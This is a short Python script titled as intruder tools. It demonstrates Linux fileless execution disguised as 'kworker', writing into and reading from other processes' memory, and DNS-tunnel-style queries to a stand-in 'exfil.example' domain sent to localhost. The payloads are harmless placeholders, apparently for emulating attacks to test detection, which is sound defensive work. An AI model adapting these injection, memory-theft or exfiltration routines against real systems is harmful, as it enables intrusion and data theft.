# The intruder's tools: memfd | inject PID | steal PID | tunnel
import ctypes, os, secrets, socket, struct, sys

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def writable_memory(pid):
    with open(f"/proc/{pid}/maps") as maps:
        return next(int(line.split("-")[0], 16) for line in maps if " rw-p " in line)


def memfd():
    file = os.memfd_create("kworker")
    with open("/bin/true", "rb") as program:
        os.write(file, program.read())
    os.execve(file, ["kworker"], {})


def inject(pid):
    code = ctypes.create_string_buffer(b"\x90" * 16, 16)
    here, there = Vector(ctypes.addressof(code), 16), Vector(writable_memory(pid), 16)
    libc.process_vm_writev.restype = ctypes.c_ssize_t
    if libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) != 16:
        raise OSError(ctypes.get_errno(), "process_vm_writev")


def steal(pid):
    address = writable_memory(pid)
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(address)
        memory.read(4096)


def tunnel():
    for _ in range(20):
        name = [secrets.token_hex(25), secrets.token_hex(25), "exfil", "example"]
        question = b"".join(bytes([len(label)]) + label.encode() for label in name) + b"\0" + struct.pack(">HH", 16, 1)
        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        server.connect(("127.0.0.1", 53))
        server.send(secrets.token_bytes(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + question)
        server.recv(512)


{"memfd": memfd, "inject": lambda: inject(int(sys.argv[2])), "steal": lambda: steal(int(sys.argv[2])), "tunnel": tunnel}[sys.argv[1]]()
